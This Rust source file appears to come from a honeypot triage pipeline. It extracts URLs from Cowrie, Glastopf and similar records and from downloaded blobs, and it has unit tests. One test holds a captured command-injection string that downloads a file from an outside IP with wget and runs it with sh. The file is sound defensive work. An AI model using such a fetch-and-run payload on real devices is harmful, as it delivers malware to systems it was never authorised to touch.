//! Scans FluentdRecord and DownloadedBlob objects for embedded URLs.
//! Mirrors `URLParserReemitterModule`; the extraction regex and the
//! percent-decode-when-`://`-absent rule are preserved as written.

use std::collections::HashSet;

use percent_encoding::percent_decode_str;
use regex::bytes::Regex as BytesRegex;
use regex::Regex;

use triage_protocol::{Kind, Object, Payload};
use triage_worker::Transformer;

const URL_REGEX: &str = r#"(https?(?::|%3A)(?:/|%2F)(?:/|%2F).*?)(?:\+|\s|%20|;|%3b|"|%22|'|%27|$)"#;

fn search_fields_for(record_type: &str) -> Option<&'static [&'static str]> {
    match record_type {
        "cowrie" => Some(&["input"]),
        "glastopf" => Some(&["http_body"]),
        "echo_and_log" => Some(&["data_ascii"]),
        _ => None,
    }
}

pub struct UrlExtractor {
    str_re: Regex,
    bytes_re: BytesRegex,
}

impl UrlExtractor {
    pub fn new() -> Self {
        UrlExtractor {
            str_re: Regex::new(URL_REGEX).expect("static regex"),
            bytes_re: BytesRegex::new(URL_REGEX).expect("static regex"),
        }
    }

    fn find_in_str(&self, data: &str) -> Vec<String> {
        self.str_re
            .captures_iter(data)
            .filter_map(|c| c.get(1))
            .map(|m| unquote_str(m.as_str()))
            .collect()
    }

    fn find_in_bytes(&self, data: &[u8]) -> Vec<String> {
        self.bytes_re
            .captures_iter(data)
            .filter_map(|c| c.get(1))
            .map(|m| unquote_bytes(m.as_bytes()))
            .collect()
    }

    fn handle_fluentd_record(&self, data: &serde_json::Value, record_type: &str) -> HashSet<String> {
        let Some(fields) = search_fields_for(record_type) else {
            tracing::debug!(target: "triage_transformers", record_type, "no url search fields for record type");
            return HashSet::new();
        };
        let mut urls = HashSet::new();
        for field in fields {
            if let Some(text) = data.get(field).and_then(serde_json::Value::as_str) {
                urls.extend(self.find_in_str(text));
            }
        }
        urls
    }

    fn handle_downloaded_blob(&self, content: &[u8]) -> HashSet<String> {
        self.find_in_bytes(content).into_iter().collect()
    }
}

impl Default for UrlExtractor {
    fn default() -> Self {
        Self::new()
    }
}

fn unquote_str(url: &str) -> String {
    if url.contains("://") {
        url.to_string()
    } else {
        percent_decode_str(url).decode_utf8_lossy().into_owned()
    }
}

fn unquote_bytes(url: &[u8]) -> String {
    if url.windows(3).any(|w| w == b"://") {
        String::from_utf8_lossy(url).into_owned()
    } else {
        percent_encoding::percent_decode(url)
            .decode_utf8_lossy()
            .into_owned()
    }
}

impl Transformer for UrlExtractor {
    fn accepts(&self, kind: Kind) -> bool {
        matches!(kind, Kind::FluentdRecord | Kind::DownloadedBlob)
    }

    fn handle(&mut self, input: &Object) -> Vec<Payload> {
        let urls: HashSet<String> = match &input.payload {
            Payload::FluentdRecord { data, record_type } => record_type
                .as_deref()
                .map(|t| self.handle_fluentd_record(data, t))
                .unwrap_or_default(),
            Payload::DownloadedBlob { content, .. } => self.handle_downloaded_blob(content),
            _ => HashSet::new(),
        };
        urls.into_iter().map(|url| Payload::UrlRef { url }).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn extract(extractor: &UrlExtractor, s: &str) -> Vec<String> {
        let mut v = extractor.find_in_str(s);
        v.sort();
        v
    }

    #[test]
    fn plain_https_url() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "https://all.kinds/asdf.lwej?qwer"),
            vec!["https://all.kinds/asdf.lwej?qwer"]
        );
    }

    #[test]
    fn plain_http_url() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "http://all.kinds/asdf.lwej?qwer"),
            vec!["http://all.kinds/asdf.lwej?qwer"]
        );
    }

    #[test]
    fn percent_encoded_scheme_gets_decoded() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "https%3A/%2Fall.kinds%2Fasdf.lwej?qwer"),
            vec!["https://all.kinds/asdf.lwej?qwer"]
        );
    }

    #[test]
    fn multiple_urls_split_on_space() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "https://a.b/?q more.com https://c.d/e asdf"),
            vec!["https://a.b/?q", "https://c.d/e"]
        );
    }

    #[test]
    fn multiple_urls_split_on_semicolon() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "https://a.b/?q;more.com;https://c.d/e;asdf"),
            vec!["https://a.b/?q", "https://c.d/e"]
        );
    }

    #[test]
    fn shell_injection_payload() {
        let e = UrlExtractor::new();
        assert_eq!(
            extract(&e, "$(wget+http://176.32.33.123/GPON+-O+->+/tmp/w;sh+/tmp/w)"),
            vec!["http://176.32.33.123/GPON"]
        );
    }

    #[test]
    fn unknown_record_type_yields_no_urls() {
        let e = UrlExtractor::new();
        let data = serde_json::json!({"type": "mystery", "input": "https://x.y/z"});
        assert!(e.handle_fluentd_record(&data, "mystery").is_empty());
    }

    #[test]
    fn cowrie_input_field_is_searched() {
        let e = UrlExtractor::new();
        let data = serde_json::json!({"type": "cowrie", "input": "https://x.y/z"});
        let found = e.handle_fluentd_record(&data, "cowrie");
        assert!(found.contains("https://x.y/z"));
    }
}
